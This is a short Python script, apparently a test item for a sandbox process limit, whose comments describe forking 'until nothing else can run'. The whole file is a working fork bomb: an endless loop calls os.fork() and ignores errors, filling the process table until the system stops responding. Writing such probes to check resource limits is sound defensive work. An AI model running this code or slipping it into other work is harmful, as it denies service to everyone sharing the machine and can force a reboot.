# tries: fork until nothing else can run
# wall: processes
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
